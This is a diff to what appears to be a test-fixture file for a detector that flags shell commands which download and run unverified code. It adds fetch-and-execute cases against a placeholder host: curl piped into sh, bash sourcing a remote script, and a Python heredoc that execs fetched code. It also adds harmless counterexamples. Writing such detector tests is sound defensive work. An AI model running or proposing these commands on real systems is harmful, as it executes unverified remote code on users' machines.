@@ -137,6 +137,12 @@ export const unverifiedScripts: readonly (readonly [script: string, shown?: stri
     ["curl -so ./i.sh https://x.example/i.sh; sh i.sh", "sh i.sh"],
     ['curl -so i.sh https://x.example/i.sh; bash -c "$(cat i.sh)"', 'bash -c "$(cat i.sh)"'],
     ['curl -so i.sh https://x.example/i.sh; bash -c "$(< i.sh)"', 'bash -c "$(< i.sh)"'],
+    ['curl -s https://x.example/i.sh | sh -c "$(cat)"'],
+    ["bash -c 'source <(curl -s https://x.example/i.sh)'"],
+    [
+        "python3 - <<'EOF'\nimport urllib.request\nexec(urllib.request.urlopen('https://x.example/i.py').read())\nEOF",
+        "python3 - <<'EOF'",
+    ],
 ];
 
 /** Mentions, checked downloads, and other uses of the same programs. */
@@ -198,4 +204,6 @@ export const harmlessScripts: readonly string[] = [
     "curl -so /tmp/tool https://x.example/tool; bash /opt/other.sh",
     "curl -so /usr/local/bin/tool https://x.example/tool; echo 'abc  /usr/local/bin/tool' | sha256sum -c; tool --version",
     "sudo -i whoami",
+    "python3 - <<'EOF'\nimport urllib.request\nprint(urllib.request.urlopen('https://x.example/a').read())\nEOF",
+    'curl -s https://x.example/a | sed "s/x/$(date)/" > b',
 ];
